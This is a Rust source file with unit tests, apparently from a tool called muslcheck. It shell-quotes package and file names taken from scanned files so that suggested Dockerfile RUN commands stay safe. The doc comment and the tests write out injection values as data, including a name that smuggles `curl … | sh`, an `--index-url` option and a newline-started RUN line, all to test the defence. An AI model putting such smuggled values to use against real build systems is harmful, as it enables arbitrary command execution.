//! Words of the shell commands muslcheck suggests. Package names, versions,
//! sonames and file names come from the scanned files, which anyone may have
//! written: one pasted into a Dockerfile's `RUN` as it is could run anything
//! (`so:libz.so.1;curl … | sh`).

use std::borrow::Cow;

/// `word` as one word of a POSIX shell command: as it is when no shell
/// reads anything special in it, else single-quoted. `None` for a word no
/// command should be given: empty, read as an option (a leading `-`), or
/// holding control characters (quoting keeps a line break, which ends the
/// `RUN` line).
pub fn shell_word(word: &str) -> Option<Cow<'_, str>> {
    if word.is_empty() || word.starts_with('-') || word.chars().any(char::is_control) {
        return None;
    }
    if word.bytes().all(is_plain) {
        return Some(Cow::Borrowed(word));
    }
    Some(Cow::Owned(format!("'{}'", word.replace('\'', r"'\''"))))
}

/// The words of `words` a command can be given, each as [`shell_word`]
/// writes it, joined by spaces.
pub fn shell_words<'w>(words: impl IntoIterator<Item = &'w str>) -> String {
    words
        .into_iter()
        .filter_map(shell_word)
        .collect::<Vec<_>>()
        .join(" ")
}

/// Bytes no shell expands, splits on or quotes (`~` only expands first, but
/// is rare enough in names to quote anywhere).
fn is_plain(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || b"@%+=:,./_-".contains(&byte)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_as_they_are_and_anything_else_is_one_quoted_word() {
        for plain in [
            "so:libz.so.1",
            "@img/sharp-linux-x64@0.33.5",
            "numpy==1.26.4",
            "a+b%c",
        ] {
            assert_eq!(shell_word(plain).as_deref(), Some(plain));
        }
        assert_eq!(
            shell_word("so:libz.so.1;curl${IFS}x|sh;#").as_deref(),
            Some("'so:libz.so.1;curl${IFS}x|sh;#'")
        );
        assert_eq!(shell_word("it's").as_deref(), Some(r"'it'\''s'"));
        assert_eq!(shell_word("~root").as_deref(), Some("'~root'"));
        for refused in ["", "--index-url=http://x", "a\nRUN b", "a\rb"] {
            assert_eq!(shell_word(refused), None, "{refused:?}");
        }
        assert_eq!(shell_words(["a", "-b", "c d"]), "a 'c d'");
    }
}
